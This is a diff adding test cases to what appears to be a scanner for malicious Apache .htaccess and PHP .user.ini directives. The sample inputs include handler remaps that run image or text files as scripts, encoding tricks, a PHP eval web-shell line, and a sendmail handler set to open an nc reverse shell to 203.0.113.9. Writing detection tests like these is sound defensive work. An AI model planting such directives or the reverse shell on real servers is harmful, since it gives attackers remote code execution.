@@ -284,6 +284,36 @@ def test_makes_executable(rules: ExecRules, name: str, expected: bool) -> None:
         ("SetHandler application/x-httpd-php", "uploads/.htaccess", "WH-CFG-HTACCESS-SETHANDLER-ALL", 70),
         ("php_flag engine on", "uploads/.htaccess", "WH-CFG-HTACCESS-ENGINE-ON", 30),
         ("AddType application/x-httpd-php .haha", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
+        # script engines other than PHP and CGI: mod_rivet (Tcl), mod_lua, mod_wsgi
+        ("AddType application/x-httpd-rivet .gif", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-IMAGE", 70),
+        ("AddHandler lua-script .txt", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-TEXT", 70),
+        (
+            '<Files "logo.png">\nSetHandler wsgi-script\n</Files>',
+            ".htaccess",
+            "WH-CFG-HTACCESS-SETHANDLER-IMAGE",
+            70,
+        ),
+        # mod_sendmail told to run a shell tool in place of the mail program
+        (
+            "SetHandler sendmail\nSendmailName /bin/nc\nSendmailArguments -e /bin/sh 203.0.113.9 4444",
+            ".htaccess",
+            "WH-CFG-HTACCESS-PROGRAM",
+            80,
+        ),
+        # sources in UTF-16/UTF-7 run once zend.multibyte is on: next to a mapping, or read as such
+        (
+            "AddType application/x-httpd-php .p16\nphp_value zend.multibyte 1",
+            ".htaccess",
+            "WH-CFG-HTACCESS-PHP-MULTIBYTE",
+            70,
+        ),
+        (
+            "zend.multibyte = 1\nzend.script_encoding = UTF-16LE",
+            ".user.ini",
+            "WH-CFG-USERINI-PHP-ENCODING",
+            70,
+        ),
+        ("zend.multibyte = On", "uploads/.user.ini", "WH-CFG-USERINI-PHP-MULTIBYTE", 70),
         ("# <?php eval($_POST['a']); ?>", ".htaccess", "WH-CFG-HTACCESS-CODE", 40),
         (
             _WEB_CONFIG.format(handlers='<add name="x" path="*.gif" verb="*" modules="CgiModule"/>'),
@@ -326,6 +356,8 @@ def test_reason_names_line_and_snippet_of_the_directive() -> None:
         ("php_flag engine off", "uploads/.htaccess"),
         ("auto_prepend_file = '/var/www/html/wordfence-waf.php'", ".user.ini"),
         ("memory_limit = 256M\nupload_max_filesize = 64M", ".user.ini"),
+        ("php_value zend.multibyte On\nphp_value zend.script_encoding SJIS-win", ".htaccess"),
+        ("SetHandler sendmail\nSendmailName /usr/sbin/sendmail\nSendmailArguments -t -i", ".htaccess"),
         (
             _WEB_CONFIG.format(handlers='<add name="PHP" path="*.php" verb="*" modules="FastCgiModule"/>'),
             "web.config",
